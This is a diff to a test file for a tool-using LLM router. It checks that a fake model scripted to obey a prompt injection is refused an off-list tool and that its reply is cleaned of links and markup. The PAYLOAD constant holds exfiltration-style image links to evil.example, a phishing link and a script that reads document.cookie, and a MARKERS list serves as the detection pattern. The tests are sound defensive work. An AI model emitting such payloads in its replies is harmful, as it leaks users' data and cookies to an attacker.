@@ -2,7 +2,8 @@
 
 For every case, with the model (the fake server, scripted to "obey" the injection): the
 off-list tool it tries is refused with an ``Error:`` fed back and nothing runs; its reply,
-streamed and final, shows no link, image or HTML; what the model received holds the file's
+streamed and final, shows no link, image or HTML (a reply stating a number no tool gave is
+replaced by the router's answer, clean too); what the model received holds the file's
 strings only cleaned (no URL, no markup). Without a model, the router answers ordinarily.
 """
 
@@ -28,7 +29,8 @@ MARKERS = ("http", "www.", "![", "](", "<img", "<script", "<a ", "<iframe", "jav
 # what a model that "obeys" adds to its reply
 PAYLOAD = (
     " ![pixel](http://evil.example/p.png?d=secret) <img src=http://evil.example/i.png>"
-    " [click here](https://evil.example/login) <script>alert(1)</script> www.evil.example"
+    " [click here](https://evil.example/login) <script>alert(document.cookie)</script>"
+    " www.evil.example"
 )
 
 
@@ -149,7 +151,10 @@ def test_injected_question_runs_no_off_list_tool_and_shows_no_link(
     refused, listed = tool_messages(fake_llm.requests[1])
     assert refused.startswith("Error: unknown tool")
     assert not listed.startswith("Error")
-    assert answer.writer == "m"
+    if answer.writer == "router":  # the echoed question stated a number no tool gave ("2")
+        assert "is not a figure the tools gave" in answer.note and streamed == ""
+    else:
+        assert answer.writer == "m"
     assert_clean(answer.text)
     assert_clean(streamed)
 
